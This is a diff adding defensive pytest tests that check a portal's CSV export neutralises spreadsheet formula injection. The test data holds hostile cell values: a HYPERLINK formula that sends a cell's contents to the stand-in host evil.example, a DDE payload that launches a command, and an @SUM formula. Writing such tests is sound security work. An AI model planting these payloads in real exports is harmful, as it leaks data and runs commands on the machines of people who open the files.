@@ -486,3 +486,40 @@ def rows(table):
 def table_figures(table):
     """(year, population) per row, read from the cells a visitor sees."""
     return [(int(row[0]), number(row[2])) for row in rows(table)]
+
+
+def test_csv_cells_an_editor_typed_never_run_as_formulas(client, daugavpils, kaunas):
+    PopulationFigure.objects.filter(partner=kaunas).update(
+        source_name='=HYPERLINK("http://evil.example/?"&A1,"Statistics")'
+    )
+    kaunas.name_en = "+cmd|' /C calc'!A0"
+    kaunas.city_en = "@SUM(1+1)"
+    kaunas.save()
+
+    rows_ = read_csv(client.get("/en/partners/kaunas/population.csv"))
+
+    assert rows_
+    for row in rows_:
+        assert row["source"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Statistics")'
+        assert row["partner"] == "'+cmd|' /C calc'!A0"
+        assert row["city"] == "'@SUM(1+1)"
+        assert row["population"].isdigit()  # numbers stay numbers
+
+
+def test_the_csv_writer_neutralises_every_formula_start_and_keeps_numbers():
+    import io as text_io
+
+    from decode_portal.content.spreadsheets import SafeWriter
+
+    out = text_io.StringIO()
+    SafeWriter(out).writerow(["-2+3", "@x", "\tx", "ok", -5, 7, "a-b"])
+
+    assert next(csv.reader(text_io.StringIO(out.getvalue()))) == [
+        "'-2+3",
+        "'@x",
+        "'\tx",
+        "ok",
+        "-5",
+        "7",
+        "a-b",
+    ]
